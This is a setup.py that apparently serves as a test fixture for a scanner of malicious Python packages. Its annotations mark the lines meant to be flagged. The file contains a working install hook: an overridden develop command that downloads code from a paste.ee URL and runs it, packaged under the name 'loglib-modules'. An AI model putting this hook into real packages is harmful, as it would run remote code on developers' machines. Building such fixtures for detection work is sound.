# ruff: noqa
# fmt: off
"""Install-time execution through an overridden 'develop' command (pattern of the 2022-23 PyPI campaigns
reported by Checkmarx/Phylum: the payload runs on 'pip install -e' as well as on plain installs)."""
import subprocess
import sys

from setuptools import setup
from setuptools.command.develop import develop

PAYLOAD = "import urllib.request as u;exec(u.urlopen('https://paste.ee/r/x9Wq1').read())"  # expect: suspicious-url


class PostDevelop(develop):  # expect: install-hook
    def run(self):
        develop.run(self)
        subprocess.Popen([sys.executable, "-c", PAYLOAD])  # expect: install-hook


setup(name="loglib-modules", version="0.3.1", cmdclass={"develop": PostDevelop})  # expect: install-hook
